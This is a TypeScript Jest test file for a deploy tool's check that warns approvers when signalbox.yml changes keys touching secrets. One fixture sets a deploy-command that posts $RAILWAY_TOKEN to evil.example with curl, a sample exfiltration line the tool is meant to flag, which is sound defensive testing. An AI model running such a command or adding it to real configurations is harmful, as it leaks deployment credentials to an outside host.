import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals'
import { settingsForApprover } from '../../../src/commands/asking/changed-settings.ts'
import type { Run } from '../../../src/commands/run.ts'
import { recordArtifactName } from '../../../src/github/run-records.ts'
import { Draft } from '../../../src/record/draft.ts'
import type { DecidingSettings } from '../../../src/record/record.ts'
import type { Permissions } from '../../support/github/api.ts'
import { testContext } from '../../support/context.ts'
import { deployWorkflow, openScene, planPermissions, type Scene } from '../github/scene.ts'

let scene: Scene
let workspace: string
beforeAll(async () => {
  scene = await openScene()
  workspace = await mkdtemp(path.join(tmpdir(), 'changed-settings-'))
})
beforeEach(() => scene.reset())
afterAll(async () => {
  await scene.hub.close()
  await rm(workspace, { recursive: true, force: true })
})

const byRailway = 'railway-service: api\nwatch-for: 10m\n'
const byCommand = 'deploy-command: curl https://evil.example -d "$RAILWAY_TOKEN"\nwatch-for: 1m\n'

/** One commit of main that makes signalbox.yml so; without a text, one that leaves it as it is. */
function commit(text?: string, status: 'added' | 'modified' | 'removed' = 'modified'): string {
  scene.tick()
  const content = status === 'removed' ? {} : { content: text ?? '' }
  return scene.hub.commit({ files: text === undefined ? [{ path: 'README.md', status: 'modified', content: `${scene.hub.state.repository.id}\n` }] : [{ path: 'signalbox.yml', status, ...content }] }).sha
}

/** A run of the deploy workflow that deployed the newest commit. */
function deployed(sha: string): void {
  const run = scene.hub.createRun({ workflow: deployWorkflow, actor: 'cat' })
  expect(run.headSha).toBe(sha)
  const record = { environment: 'production', outcome: 'succeeded', deploy: { commit: sha, exitCode: 0 } }
  scene.hub.artifact({ run: run.id, name: recordArtifactName('signalbox-deploy', 1), content: Buffer.from(JSON.stringify(record)) })
}

interface Looked {
  readonly settings: DecidingSettings
  readonly warnings: readonly string[]
}

/** As the job that plans `sha` looks, with that commit's file in its checkout. */
async function look(sha: string, text: string, { permissions = planPermissions, token = true, config }: { permissions?: Permissions; token?: boolean; config?: string } = {}): Promise<Looked> {
  await writeFile(path.join(workspace, 'signalbox.yml'), text)
  const environment = { PATH: process.env['PATH'], GITHUB_REPOSITORY: 'acme/shop', GITHUB_WORKSPACE: workspace, GITHUB_WORKFLOW_REF: `acme/shop/${deployWorkflow}@refs/heads/main`, GITHUB_ACTIONS: 'true' }
  const context = testContext({ door: 'action', environment })
  const draft = new Draft(context)
  const inputs = { 'working-directory': workspace, config, environment: 'production', 'github-token': token ? scene.hub.jobToken(permissions) : undefined }
  return { settings: await settingsForApprover({ context, inputs, draft } as unknown as Run, sha), warnings: draft.warnings }
}

test('against what was deployed last: also what an earlier commit brought that was never deployed', async () => {
  deployed(commit(byRailway, 'added'))
  const first = commit()
  expect((await look(first, byRailway)).settings).toEqual({ file: 'signalbox.yml', comparedWith: { commit: expect.any(String), what: 'deployed' }, whyNot: null, keys: [] })
  commit(byCommand)
  const { settings, warnings } = await look(commit(), byCommand)
  expect(settings.comparedWith?.what).toBe('deployed')
  expect(settings.keys).toEqual([
    { name: 'deploy-command', before: null, now: 'curl https://evil.example -d "$RAILWAY_TOKEN"' },
    { name: 'railway-service', before: 'api', now: null },
  ])
  expect(warnings).toEqual(['signalbox.yml decides otherwise than before where secrets go and what runs beside them (deploy-command, railway-service): look at it before you approve.'])
  expect(scene.hub.problems).toEqual([])
})

test('before the first deploy: against the first parent', async () => {
  const parent = commit(byRailway, 'added')
  const { settings } = await look(commit(byCommand), byCommand)
  expect(settings).toMatchObject({ comparedWith: { commit: parent, what: 'parent' }, keys: [{ name: 'deploy-command' }, { name: 'railway-service' }] })
})

test('a file that is new, and one that is gone', async () => {
  expect((await look(commit(byRailway, 'added'), byRailway)).settings).toMatchObject({ comparedWith: { what: 'parent' }, keys: [{ name: 'railway-service', before: null, now: 'api' }] })
  expect((await look(commit('', 'removed'), '')).settings.keys).toEqual([{ name: 'railway-service', before: 'api', now: null }])
})

test.each<[string, Parameters<typeof look>[2], RegExp]>([
  ['without a token', { token: false }, /^there is no github-token$/],
  ['with a token that may not read the contents', { permissions: { actions: 'write' } }, /^Could not read signalbox\.yml as it was: GitHub says 403/],
  ['of a file outside of the repository', { config: '../signalbox.yml' }, /outside the repository/],
])('%s it says so, and shows what there is', async (_, more, why) => {
  await writeFile(path.join(path.dirname(workspace), 'signalbox.yml'), byCommand)
  try {
    commit(byRailway, 'added')
    const { settings, warnings } = await look(commit(byCommand), byCommand, more)
    expect(settings).toMatchObject({ comparedWith: null, whyNot: expect.stringMatching(why), keys: [{ name: 'deploy-command', before: null }] })
    expect(warnings).toEqual([])
  } finally {
    await rm(path.join(path.dirname(workspace), 'signalbox.yml'))
  }
})

test('what stood there before and is no YAML cannot be compared', async () => {
  commit('a: [', 'added')
  expect((await look(commit(byRailway), byRailway)).settings).toMatchObject({ comparedWith: null, whyNot: expect.stringMatching(/^at [0-9a-f]{8} signalbox\.yml holds no keys$/) })
})
